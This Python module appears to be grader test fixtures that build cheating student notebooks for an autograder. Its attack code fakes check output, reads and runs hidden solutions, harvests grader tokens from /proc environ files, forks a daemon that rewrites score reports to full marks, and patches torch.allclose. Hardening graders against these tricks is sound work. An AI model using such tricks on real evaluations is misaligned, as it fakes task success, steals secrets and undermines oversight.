"""Attack submissions from issue 13, built from the committed exercises and solutions.

Each builder returns a student notebook (nbformat v4) that tries one way of earning
points it does not deserve, or of escaping the grader. ``tests/grading/test_attacks.py``
asserts that each is defeated or flagged; ``tests/grading/measure_attacks.py`` prints the
points each earns (the issue's before/after table).
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import nbformat

from tests.grading.mutation import answer_cell, apply_mutants

ROOT = Path(__file__).resolve().parents[2]
EX10_1 = "ex10_1_compression.ipynb"
EX10_2 = "ex10_2_autoencoders.ipynb"


def solution(name: str = EX10_1) -> nbformat.NotebookNode:
    return nbformat.read(ROOT / "solutions" / name, as_version=4)


def exercise(name: str = EX10_1) -> nbformat.NotebookNode:
    return nbformat.read(ROOT / "exercises" / name, as_version=4)


def _with_answers(base: nbformat.NotebookNode, answers: dict[str, str]) -> nbformat.NotebookNode:
    nb = copy.deepcopy(base)
    for gid, source in answers.items():
        answer_cell(nb, gid).source = source
    return nb


def wrong_psnr() -> nbformat.NotebookNode:
    """The solution with a wrong psnr (natural log): costs 10.1.a, and should cost only it."""
    return apply_mutants(solution(), [("psnr: ln", "10.1.a", "torch.log10(", "torch.log(")])


def transformer_stub() -> nbformat.NotebookNode:
    """Every answer a stub; answer 10.1.a registers an IPython input transformer that turns
    each later public check cell into a print of its (public) expected output."""
    ex = exercise()
    table = {}
    for cell in ex.cells:
        grade = cell.metadata.get("grade", {})
        if grade.get("role") == "check":
            text = "".join(o.get("text", "") for o in cell.outputs if o.get("name") == "stdout")
            table[cell.source] = text
    stub = answer_cell(ex, "10.1.a").source
    attack = (
        stub + "\n\n_TABLE = " + json.dumps(table) + "\n\n"
        "def _fake(lines):\n"
        "    src = ''.join(lines)\n"
        "    for check, text in _TABLE.items():\n"
        "        if src.strip() == check.strip() or check.strip() in src:\n"
        "            return [f'print({text!r}, end=\"\")\\n']\n"
        "    return lines\n\n"
        "get_ipython().input_transformers_cleanup.append(_fake)\n"
    )
    return _with_answers(ex, {"10.1.a": attack})


_STEAL = (
    "import json as _json, pathlib as _pl, ldm_teach as _lt\n"
    "_sol = _json.loads((_pl.Path(_lt.__file__).parents[1] / 'solutions' / "
    "'ex10_1_compression.ipynb').read_text())\n"
    "for _c in _sol['cells']:\n"
    "    if _c.get('metadata', {}).get('grade', {}) == {'id': '%s', 'role': 'answer'}:\n"
    "        exec(''.join(_c['source']))\n"
)


def read_solutions() -> nbformat.NotebookNode:
    """Each answer reads the solution notebook through the package's path and runs it."""
    return _with_answers(
        exercise(), {g: _STEAL % g for g in ("10.1.a", "10.1.b", "10.1.c", "10.1.d")}
    )


def reference_import(how: str = "importlib") -> nbformat.NotebookNode:
    """10.1.a's psnr taken from the package (importlib or sys.modules), which the prompt
    forbids; the other functions of 10.1.a and the other parts are the solution's."""
    nb = solution()
    cell = answer_cell(nb, "10.1.a")
    get = (
        'importlib.import_module("ldm_teach.metrics")'
        if how == "importlib"
        else 'sys.modules["ldm_teach.metrics"]'
    )
    head, _, rest = cell.source.partition("def latent_bits")
    cell.source = (
        f"import importlib, sys\n\npsnr = getattr({get}, 'psnr')\n\n\ndef latent_bits" + rest
    )
    assert "def psnr" in head
    return nb


def proc_environ(marker: Path) -> nbformat.NotebookNode:
    """The solution, plus an answer that reads the grader's environment through /proc and
    writes what it found (the grader's token, its results path) to ``marker``."""
    nb = solution()
    cell = answer_cell(nb, "10.1.a")
    cell.source += (
        "\n\nimport os as _os\n_found = []\n"
        "for _pid in _os.listdir('/proc'):\n"
        "    try:\n"
        "        _env = open(f'/proc/{_pid}/environ', 'rb').read().split(b'\\0')\n"
        "    except Exception:\n"
        "        continue\n"
        "    _found += [e.decode() for e in _env if e.startswith(b'LDM_TEACH_GRADE_')]\n"
        f"open({str(marker)!r}, 'w').write('\\n'.join(_found))\n"
    )
    return nb


def fork_rewrite() -> nbformat.NotebookNode:
    """Every answer a stub; answer 10.1.a forks a process that leaves the grader's session
    and, once the grader has written its JSON report, rewrites it to full marks."""
    ex = exercise()
    stub = answer_cell(ex, "10.1.a").source
    attack = stub + (
        "\n\nimport os as _os, time as _t, json as _j, glob as _g\n"
        "if _os.fork() == 0:\n"
        "    _os.setsid(); _os.chdir('/')\n"
        "    if _os.fork() == 0:\n"
        "        _out = None\n"
        "        for _pid in _os.listdir('/proc'):\n"
        "            try:\n"
        "                _cmd = open(f'/proc/{_pid}/cmdline', 'rb').read().split(b'\\0')\n"
        "            except Exception:\n"
        "                continue\n"
        "            if b'--out' in _cmd:\n"
        "                _out = _cmd[_cmd.index(b'--out') + 1].decode()\n"
        "                _cwd = _os.readlink(f'/proc/{_pid}/cwd')\n"
        "                _out = _os.path.join(_cwd, _out)\n"
        "        for _ in range(600):\n"
        "            _t.sleep(0.5)\n"
        "            for _p in _g.glob(_os.path.join(_out or '/nonexistent', '*.json')):\n"
        "                if _p.endswith('classroom.json'):\n"
        "                    continue\n"
        "                _t.sleep(1.0)\n"
        "                _d = _j.load(open(_p))\n"
        "                _d['total'] = _d['max_total']\n"
        "                for _v in _d['parts'].values():\n"
        "                    _v['score'] = _v['max_score']\n"
        "                open(_p, 'w').write(_j.dumps(_d))\n"
        "                _os._exit(0)\n"
        "    _os._exit(0)\n"
    )
    return _with_answers(ex, {"10.1.a": attack})


def allclose_patch() -> nbformat.NotebookNode:
    """10.2: a wrong vector_quantize (no straight-through gradient) with torch.allclose
    patched to always answer True."""
    nb = honest_wrong_vq()
    answer_cell(nb, "10.2.a").source += "\n\ntorch.allclose = lambda *args, **kwargs: True\n"
    return nb


def honest_wrong_vq() -> nbformat.NotebookNode:
    """The same wrong vector_quantize without the patch (what it should score)."""
    return apply_mutants(
        solution(EX10_2),
        [
            (
                "vq: no straight-through",
                "10.2.a",
                "z_q = z_e + (e - z_e).detach()",
                "z_q = e.detach() + 0 * z_e",
            )
        ],
    )
